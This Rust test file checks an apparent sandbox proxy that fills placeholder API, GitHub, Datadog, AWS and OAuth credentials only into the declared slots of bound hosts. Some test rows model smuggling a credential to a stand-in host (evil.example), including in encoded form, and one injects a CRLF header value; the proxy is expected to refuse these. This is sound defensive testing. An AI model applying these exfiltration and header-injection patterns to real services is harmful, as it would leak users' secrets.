//! What must never carry a credential, class by class.

use std::sync::LazyLock;

use http::HeaderMap;
use http::header::{HeaderName, HeaderValue};
use proptest::prelude::*;

use super::*;
use crate::credential::{Binding, Grant, Slot};
use crate::egress::host::HostPattern;

mod properties;

const A: &str = "sk-ant-shadowshadowshadow0123456789";
const B: &str = "ghp_shadowshadowshadowshadow01234567";
const DD: &str = "ddapishadow0123456789abcdef012345";
const DD_APP: &str = "ddappshadow0123456789abcdef0123456789abcd";
const KEY_ID: &str = "AKIASHADOW0123456789";
const SECRET: &str = "awssecretshadow0123456789ABCDEFGHIJKLMNO";
const TOKEN: &str = "awstokenshadow0123456789";
const REFRESH: &str = "refreshshadow0123456789ABCDEFGH";
const REAL: &str = "REAL-value/with+odd=chars&";

fn name(text: &str) -> CredentialName {
    CredentialName::parse(text).unwrap()
}

fn header(name: &str, format: &str) -> Slot {
    Slot::Header { name: name.to_owned(), format: format.to_owned() }
}

fn binding(hosts: &[&str], slots: Vec<Slot>) -> Binding {
    let hosts = hosts.iter().map(|host| HostPattern::parse(host).unwrap()).collect();
    Binding { hosts, port: 443, methods: vec![], paths: vec![], slots, optional: true }
}

fn grant(text: &str, shadow: &str, bindings: Vec<Binding>) -> Grant {
    Grant { name: name(text), shadow: shadow.to_owned(), bindings }
}

static HELD: LazyLock<Held> = LazyLock::new(|| {
    let bearer = || header("authorization", "Bearer {}");
    let mut narrow = binding(&["narrow.example"], vec![bearer()]);
    narrow.methods = vec!["GET".to_owned()];
    narrow.paths = vec!["/v1".to_owned(), "/data/".to_owned()];
    narrow.optional = false;
    let query = binding(&["query.example"], vec![Slot::Query { name: "key".to_owned() }]);
    let a = vec![binding(&["api.example"], vec![header("x-api-key", "{}"), bearer()]), narrow, query];
    let git = vec![header("authorization", "token {}"), bearer(), Slot::BasicUser, Slot::BasicPassword];
    let sigv4 = Slot::SigV4 { key_id: name("AWS_ID"), token: Some(name("AWS_TOKEN")) };
    let refresh = Slot::OAuthRefresh { path: "/oauth/token".to_owned() };
    Held::new(vec![
        grant("A", A, a),
        grant("B", B, vec![binding(&["git.example", "*.git.example"], git)]),
        grant("DD", DD, vec![binding(&["dd.example"], vec![header("dd-api-key", "{}")])]),
        grant("DD_APP", DD_APP, vec![binding(&["dd.example"], vec![header("dd-application-key", "{}")])]),
        grant("AWS_ID", KEY_ID, vec![]),
        grant("AWS_SECRET", SECRET, vec![binding(&["*.amazonaws.com"], vec![sigv4])]),
        grant("AWS_TOKEN", TOKEN, vec![]),
        grant("REFRESH", REFRESH, vec![binding(&["login.example"], vec![refresh])]),
    ])
});

fn held() -> &'static Held {
    &HELD
}

/// A request in a line: `GET https://host:port/path?query`, and its headers.
#[derive(Clone)]
struct Sent<'a> {
    line: &'a str,
    odd: bool,
    headers: Vec<(&'a str, String)>,
}

fn sent<'a>(line: &'a str, headers: &[(&'a str, &str)]) -> Sent<'a> {
    let headers = headers.iter().map(|(name, value)| (*name, (*value).to_owned())).collect();
    Sent { line, odd: false, headers }
}

impl Sent<'_> {
    fn headers(&self) -> HeaderMap {
        let mut map = HeaderMap::new();
        for (name, value) in &self.headers {
            let name = HeaderName::from_bytes(name.as_bytes()).unwrap();
            map.append(name, HeaderValue::from_bytes(value.as_bytes()).unwrap());
        }
        map
    }

    fn query(&self) -> Option<String> {
        self.line.split_once('?').map(|(_, query)| query.to_owned())
    }

    fn plan(&self, held: &Held) -> Result<Plan, SlotRefusal> {
        let (method, url) = self.line.split_once(' ').unwrap();
        let (scheme, rest) = url.split_once("://").unwrap();
        let rest = rest.split('?').next().unwrap();
        let (host, path) = rest.split_at(rest.find('/').unwrap());
        let tls = scheme == "https";
        let authority = Authority::parse(host, Some(if tls { 443 } else { 80 })).unwrap();
        let query = self.query();
        let headers = self.headers();
        let (query, headers) = (query.as_deref(), &headers);
        let path_is_odd = self.odd;
        plan(held, &Outgoing { authority: &authority, tls, method, path, path_is_odd, query, headers })
    }

    /// The headers and the query as they leave.
    fn filled(&self) -> Result<(HeaderMap, Option<String>), String> {
        let plan = self.plan(held()).map_err(|refusal| refusal.code().to_owned())?;
        let (mut headers, mut query) = (self.headers(), self.query());
        fill(&plan, &mut headers, &mut query, &|_| Some(REAL)).map_err(|error| error.to_string())?;
        Ok((headers, query))
    }

    fn code(&self) -> &'static str {
        match self.plan(held()) {
            Ok(plan) if plan.is_empty() => "empty",
            Ok(_) => "filled",
            Err(refusal) => refusal.code(),
        }
    }
}

fn basic(user: &str, password: &str) -> String {
    Basic { user: user.to_owned(), password: password.to_owned() }.write().unwrap()
}

/// A request's line, its headers, and what becomes of it.
type Row<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);

fn check(table: &[Row<'_>]) {
    for (line, headers, wanted) in table {
        assert_eq!(sent(line, headers).code(), *wanted, "{line} {headers:?}");
    }
}

#[test]
fn a_shadow_in_a_declared_slot_is_filled_and_stands_alone() {
    let bearer = format!("Bearer {A}");
    for (line, name, value, wanted) in [
        ("POST https://api.example/v1/messages", "x-api-key", A, REAL.to_owned()),
        ("POST https://api.example/", "authorization", bearer.as_str(), format!("Bearer {REAL}")),
        ("POST https://api.example/", "authorization", &format!("bearer   {A}"), format!("Bearer {REAL}")),
        ("GET https://git.example/", "authorization", &format!("TOKEN {B}"), format!("token {REAL}")),
        ("GET https://a.b.git.example/", "authorization", &format!("Bearer {B}"), format!("Bearer {REAL}")),
    ] {
        let extra = [
            (name, value),
            ("proxy-authorization", "Basic eDp5"),
            ("cookie", "session=1"),
            ("accept", "*/*"),
        ];
        let (headers, _) = sent(line, &extra).filled().unwrap();
        assert_eq!(headers[name], wanted, "{line}");
        assert!(headers[name].is_sensitive());
        let mut names: Vec<_> = headers.keys().map(HeaderName::as_str).collect();
        names.sort_unstable();
        assert_eq!(names, ["accept", name]);
    }
}

#[test]
fn two_credentials_in_their_own_slots_go_together() {
    let request = sent("GET https://dd.example/", &[("dd-api-key", DD), ("dd-application-key", DD_APP)]);
    let plan = request.plan(held()).unwrap();
    assert_eq!(plan.names(), [name("DD"), name("DD_APP")]);
    let real = |name: &CredentialName| Some(format!("real-{name}"));
    let (mut headers, mut query) = (request.headers(), None);
    fill(&plan, &mut headers, &mut query, &real).unwrap();
    assert_eq!(headers["dd-api-key"], "real-DD");
    assert_eq!(headers["dd-application-key"], "real-DD_APP");
    check(&[
        ("GET https://dd.example/", &[("dd-api-key", DD_APP)], "wrong_slot"),
        (
            "GET https://dd.example/",
            &[("dd-api-key", DD), ("dd-application-key", "own")],
            "foreign_credential",
        ),
    ]);
}

#[test]
fn basic_authentication_is_decoded_filled_and_encoded_again() {
    for (user, password, wanted) in [
        ("x-access-token", B, Some(("x-access-token", REAL))),
        ("", B, Some(("", REAL))),
        (B, "", Some((REAL, ""))),
        (B, "x-oauth-basic", Some((REAL, "x-oauth-basic"))),
        (B, B, Some((REAL, REAL))),
        (
            "a.very.long.address.of.a.person@mail.example.com",
            B,
            Some(("a.very.long.address.of.a.person@mail.example.com", REAL)),
        ),
        ("x", "own", None),
        (B, A, None),
        // Another's token in the other half: some hosts would take it first.
        ("ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", B, None),
    ] {
        let value = basic(user, password);
        for value in
            [value.clone(), value.replace("Basic ", "bAsIc   "), value.trim_end_matches('=').to_owned()]
        {
            let filled = sent("GET https://git.example/o/r", &[("authorization", &value)]).filled();
            let wanted = wanted.map(|(user, password)| basic(user, password));
            assert_eq!(
                filled.ok().map(|(headers, _)| headers["authorization"].to_str().unwrap().to_owned()),
                wanted
            );
        }
    }
    check(&[
        ("GET https://git.example/", &[("authorization", &basic("x", A))], "shadow_elsewhere"),
        ("GET https://git.example/", &[("authorization", &basic("x", &format!("{B}x")))], "wrong_slot"),
        ("GET https://api.example/", &[("authorization", &basic("x", A))], "wrong_slot"),
        ("GET https://api.example/", &[("authorization", &basic("x", "own"))], "foreign_credential"),
        ("GET https://api.example/", &[("authorization", "Basic !!")], "foreign_credential"),
    ]);
}

#[test]
fn a_query_slot_is_filled_and_every_other_byte_stays() {
    let line = format!("GET https://query.example/v1?a=%41+b&k%65y={A}&z");
    let (_, query) = sent(&line, &[]).filled().unwrap();
    assert_eq!(query.unwrap(), "a=%41+b&k%65y=REAL-value%2Fwith%2Bodd%3Dchars%26&z");
    let own = "GET https://query.example/v1?key=AIzaSyOwnOwnOwnOwnOwn";
    check(&[
        (own, &[], "foreign_credential"),
        ("GET https://query.example/v1?key=short", &[], "foreign_credential"),
        ("GET https://query.example/v1?a=1;key=AIzaSyOwnOwnOwnOwnOwn", &[], "foreign_credential"),
        ("GET https://query.example/v1?q=key", &[], "empty"),
        (&format!("GET https://query.example/?key={A}&KEY={A}"), &[], "duplicate_credential"),
        (&format!("GET https://query.example/?key={A}x"), &[], "wrong_slot"),
        (&format!("GET https://query.example/?key={B}"), &[], "shadow_elsewhere"),
        (&format!("GET https://api.example/?key={A}"), &[], "wrong_slot"),
        (&format!("GET https://api.example/?q={A}"), &[], "empty"),
    ]);
}

#[test]
fn a_foreign_credential_on_a_credentialed_host_is_refused() {
    let long = "AIzaSyOwnOwnOwnOwnOwn";
    check(&[
        ("GET https://api.example/", &[("x-api-key", "sk-own")], "foreign_credential"),
        ("GET https://api.example/", &[("authorization", "Bearer sk-own")], "foreign_credential"),
        (
            "GET https://api.example/",
            &[("x-api-key", A), ("authorization", "Bearer own")],
            "foreign_credential",
        ),
        ("GET https://api.example/", &[("x-api-key", A), ("x-auth-token", "own")], "foreign_credential"),
        ("GET https://api.example/", &[("x-api-key", A), ("private-token", "own")], "foreign_credential"),
        ("GET https://api.example/", &[("x-api-key", &format!("{A},own"))], "wrong_slot"),
        (&format!("GET https://api.example/?key={long}"), &[("x-api-key", A)], "foreign_credential"),
        ("GET https://api.example/?access_token=x", &[("x-api-key", A)], "foreign_credential"),
        ("GET https://api.example/?X-Amz-Signature=x", &[], "foreign_credential"),
        ("GET http://api.example/", &[("x-api-key", "sk-own")], "foreign_credential"),
        (
            "GET https://api.example/",
            &[("sec-websocket-protocol", "realtime, openai-insecure-api-key.sk-own")],
            "foreign_credential",
        ),
    ]);
}

#[test]
fn duplicated_carriers_are_refused() {
    let bearer = format!("Bearer {A}");
    check(&[
        (
            "GET https://api.example/",
            &[("authorization", &bearer), ("authorization", "own")],
            "duplicate_credential",
        ),
        ("GET https://api.example/", &[("x-api-key", A), ("x-api-key", A)], "duplicate_credential"),
    ]);
}

#[test]
fn a_shadow_on_its_way_to_another_host_is_refused_wherever_it_stands() {
    let bearer = format!("Bearer {A}");
    let (hex, encoded) = (hex(A), format!("%73{}", &A[1..]));
    let basic = basic("x", A);
    let wanted = "shadow_elsewhere";
    check(&[
        ("GET https://evil.example/", &[("authorization", &bearer)], wanted),
        ("GET https://evil.example/", &[("x-anything", &format!("a{A}b"))], wanted),
        ("GET https://evil.example/", &[("cookie", &format!("a={A}"))], wanted),
        ("GET https://evil.example/", &[("authorization", &basic)], wanted),
        ("GET https://evil.example/", &[("x-odd", &hex)], wanted),
        (&format!("GET https://evil.example/?q={A}"), &[], wanted),
        (&format!("GET https://evil.example/?q={encoded}"), &[], wanted),
        (&format!("GET https://evil.example/x/{A}/y"), &[], wanted),
        ("GET https://git.example/", &[("authorization", &bearer)], wanted),
        ("GET https://git.example/", &[("x-other", A)], wanted),
        // Another port is another service; a name that only ends alike is another host.
        ("GET https://api.example:8443/", &[("x-api-key", A)], wanted),
        ("GET https://api.example.evil.org/", &[("x-api-key", A)], wanted),
        ("GET https://notgit.example/", &[("authorization", &format!("token {B}"))], wanted),
        ("GET http://evil.example/", &[("authorization", &bearer)], wanted),
    ]);
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn on_its_own_host_a_shadow_outside_the_places_for_credentials_is_inert() {
    let request = sent("GET https://api.example/x", &[("x-note", A), ("x-api-key", A)]);
    let (headers, _) = request.filled().unwrap();
    assert_eq!(
        (&headers["x-note"], &headers["x-api-key"]),
        (&HeaderValue::from_static(A), &HeaderValue::from_static(REAL))
    );
    check(&[
        (&format!("GET https://api.example/{A}"), &[], "empty"),
        ("GET https://api.example/", &[("referer", &format!("https://x/?k={A}"))], "empty"),
        ("GET https://api.example/", &[("x-auth-token", A)], "wrong_slot"),
        ("GET https://api.example/", &[("sec-websocket-protocol", &format!("api-key.{A}"))], "wrong_slot"),
    ]);
}

#[test]
fn without_tls_nothing_is_filled() {
    let bearer = format!("Bearer {A}");
    check(&[
        ("GET http://api.example/", &[("authorization", &bearer)], "plain_http"),
        ("GET http://api.example:443/", &[("x-api-key", A)], "plain_http"),
        ("GET http://api.example/", &[("x-note", A)], "plain_http"),
        (&format!("GET http://query.example/?key={A}"), &[], "plain_http"),
        ("GET http://api.example/", &[], "empty"),
    ]);
}

#[test]
fn a_binding_means_its_methods_and_whole_segments_of_its_paths() {
    let bearer = format!("Bearer {A}");
    let authorization: &[(&str, &str)] = &[("authorization", &bearer)];
    check(&[
        ("GET https://narrow.example/v1", authorization, "filled"),
        ("GET https://narrow.example/v1/x", authorization, "filled"),
        ("GET https://narrow.example/data/x", authorization, "filled"),
        ("GET https://narrow.example/v10", authorization, "outside_binding"),
        ("GET https://narrow.example/", authorization, "outside_binding"),
        ("GET https://narrow.example/x/v1", authorization, "outside_binding"),
        ("POST https://narrow.example/v1", authorization, "outside_binding"),
        ("get https://narrow.example/v1", authorization, "outside_binding"),
        ("GET https://narrow.example/v1", &[], "credential_missing"),
        ("GET https://narrow.example/other", &[], "empty"),
    ]);
    let odd = Sent { odd: true, ..sent("GET https://narrow.example/v1/x", authorization) };
    assert_eq!(odd.code(), "outside_binding");
    let odd = Sent { odd: true, ..sent("GET https://api.example/v1/x", authorization) };
    assert_eq!(odd.code(), "filled");
}

#[test]
fn a_host_without_credentials_gets_the_clients_own_unchanged() {
    let own = [
        ("authorization", "Bearer own"),
        ("x-api-key", "own"),
        ("cookie", "a=1"),
        ("proxy-authorization", "x"),
    ];
    let (headers, query) = sent("GET https://free.example/?key=own-own-own-own-own", &own).filled().unwrap();
    assert_eq!(headers["authorization"], "Bearer own");
    assert_eq!(headers["x-api-key"], "own");
    assert_eq!(headers["cookie"], "a=1");
    assert!(!headers.contains_key("proxy-authorization"));
    assert_eq!(query.as_deref(), Some("key=own-own-own-own-own"));
}

#[test]
fn an_aws_signature_is_planned_for_the_sandboxs_own_key_only() {
    let sign = |key: &str, region: &str, more: &str| {
        let scope = format!("{key}/20150830/{region}/s3/aws4_request");
        format!("AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature={}{more}", "0".repeat(64))
    };
    let line = "GET https://b.s3.eu-west-1.amazonaws.com/k";
    let good = sign(KEY_ID, "eu-west-1", "");
    let plan = sent(line, &[("authorization", &good), ("x-amz-security-token", TOKEN)]).plan(held()).unwrap();
    assert_eq!(plan.names(), [name("AWS_ID"), name("AWS_SECRET"), name("AWS_TOKEN")]);
    assert_eq!(plan.signing().unwrap().shadow_secret, SECRET);
    check(&[
        (line, &[("authorization", &good)], "filled"),
        (line, &[], "empty"),
        (line, &[("authorization", &sign("AKIAOWN", "eu-west-1", ""))], "foreign_credential"),
        (line, &[("authorization", &sign(A, "eu-west-1", ""))], "shadow_elsewhere"),
        (line, &[("authorization", &sign(KEY_ID, "us-east-1", ""))], "sigv4_scope"),
        (line, &[("authorization", &sign(KEY_ID, "eu-west-1", "0"))], "sigv4_malformed"),
        (line, &[("authorization", &good), ("x-amz-security-token", "own")], "foreign_credential"),
        (line, &[("authorization", &good), ("authorization", &good)], "duplicate_credential"),
        (line, &[("authorization", &good), ("x-api-key", "own")], "foreign_credential"),
        (
            line,
            &[("authorization", &good), ("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD")],
            "sigv4_signed_chunks",
        ),
        ("GET https://b.s3.eu-west-1.amazonaws.com/k?X-Amz-Signature=0", &[], "sigv4_presigned"),
        (line, &[("authorization", "AWS4-ECDSA-P256-SHA256 Credential=x")], "sigv4a"),
        (line, &[("authorization", &format!("Bearer {SECRET}"))], "wrong_slot"),
        ("GET https://evil.example/k", &[("authorization", &good)], "shadow_elsewhere"),
        ("GET http://b.s3.eu-west-1.amazonaws.com/k", &[("authorization", &good)], "plain_http"),
    ]);
    let request =
        sent(line, &[("authorization", &good), ("x-amz-security-token", TOKEN), ("x-amz-acl", "private")]);
    let (headers, _) = request.filled().unwrap();
    assert_eq!(headers.keys().map(HeaderName::as_str).collect::<Vec<_>>(), ["x-amz-acl"]);
}

#[test]
fn a_token_endpoint_is_the_exact_path_and_method() {
    let endpoint = |line: &str| sent(line, &[]).plan(held()).unwrap().endpoint().cloned();
    let found = endpoint("POST https://login.example/oauth/token").unwrap();
    assert_eq!(found.credentials, [(name("REFRESH"), REFRESH.to_owned())]);
    for line in [
        "GET https://login.example/oauth/token",
        "POST https://login.example/oauth/token/",
        "POST https://login.example/oauth",
        "POST https://other.example/oauth/token",
        "POST http://login.example/oauth/token",
    ] {
        assert_eq!(endpoint(line), None, "{line}");
    }
    let odd = Sent { odd: true, ..sent("POST https://login.example/oauth/token", &[]) };
    assert_eq!(odd.plan(held()).unwrap().endpoint(), None);
}

#[test]
fn a_value_that_cannot_stand_in_its_place_is_not_sent() {
    let request = sent("GET https://api.example/", &[("x-api-key", A)]);
    let plan = request.plan(held()).unwrap();
    for value in ["a\r\nhost: evil", "a\nb", "a\0b", "", "\u{7f}"] {
        let (mut headers, mut query) = (request.headers(), None);
        let error = fill(&plan, &mut headers, &mut query, &|_| Some(value)).unwrap_err();
        assert_eq!(error, FillError::BadValue { name: name("A") }, "{value:?}");
        assert_eq!(headers, request.headers());
    }
    let error = fill(&plan, &mut request.headers(), &mut None, &|_| None::<&str>).unwrap_err();
    assert_eq!(error, FillError::Unavailable { name: name("A") });

    let basic = sent("GET https://git.example/", &[("authorization", &basic(B, ""))]);
    let plan = basic.plan(held()).unwrap();
    assert!(fill(&plan, &mut basic.headers(), &mut None, &|_| Some("with:colon")).is_err());

    let line = format!("GET https://query.example/?key={A}");
    let plan = sent(&line, &[]).plan(held()).unwrap();
    for changed in [None, Some("a=1".to_owned()), Some(format!("a=1&key={A}"))] {
        let error = fill(&plan, &mut HeaderMap::new(), &mut changed.clone(), &|_| Some(REAL)).unwrap_err();
        assert_eq!(error, FillError::Changed);
    }
}
